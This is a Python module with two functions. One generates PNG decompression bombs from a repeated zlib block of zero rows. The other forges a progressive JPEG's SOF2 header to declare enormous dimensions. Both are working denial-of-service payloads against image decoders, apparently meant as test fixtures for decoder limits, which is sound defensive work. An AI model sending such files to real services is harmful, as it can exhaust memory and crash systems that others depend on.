"""Image bombs: small files whose headers declare enormous images, built without ever holding the pixels.

A PNG of zeros compresses about a thousand to one, so a 25,000 x 25,000 image is a file of a few megabytes that
decodes to gigabytes. The zlib stream is made of one compressed block of zero rows repeated (a full flush makes
each block independent of the ones before), with the Adler-32 of n zero bytes computed, not summed: A = 1 and
B = n mod 65521.
"""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

__all__ = ["png_bomb", "progressive_jpeg_bomb"]

_CHUNK_ROWS_BYTES = 8 * 1024 * 1024


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def _zeros_zlib(total: int) -> bytes:
    """A valid zlib stream of ``total`` zero bytes, at a cost independent of ``total`` (one block, repeated)."""
    block_size = min(total, _CHUNK_ROWS_BYTES)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(block_size)) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeats, rest = divmod(total, block_size)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    end = tail.compress(bytes(rest)) + tail.flush(zlib.Z_FINISH)
    adler = ((total % 65521) << 16) | 1
    return b"\x78\xda" + block * repeats + end + struct.pack(">I", adler)


def png_bomb(width: int, height: int, *, bit_depth: int = 8, color_type: int = 0) -> bytes:
    """A valid PNG of ``width`` x ``height`` zero pixels (color type 0 gray, 2 RGB, 4 gray+alpha, 6 RGBA)."""
    channels = {0: 1, 2: 3, 4: 2, 6: 4}[color_type]
    row = 1 + width * channels * bit_depth // 8  # the filter byte (0: none) and the samples
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", _zeros_zlib(row * height)) + _chunk(
        b"IEND", b""
    )


def progressive_jpeg_bomb(width: int = 65_000, height: int = 65_000) -> bytes:
    """A small progressive JPEG whose frame header (SOF2) is rewritten to declare ``width`` x ``height``."""
    out = io.BytesIO()
    Image.new("RGB", (64, 64), "white").save(out, "JPEG", progressive=True, quality=50)
    data = bytearray(out.getvalue())
    at = data.index(b"\xff\xc2")  # SOF2: marker, length (2), precision (1), height (2), width (2)
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)
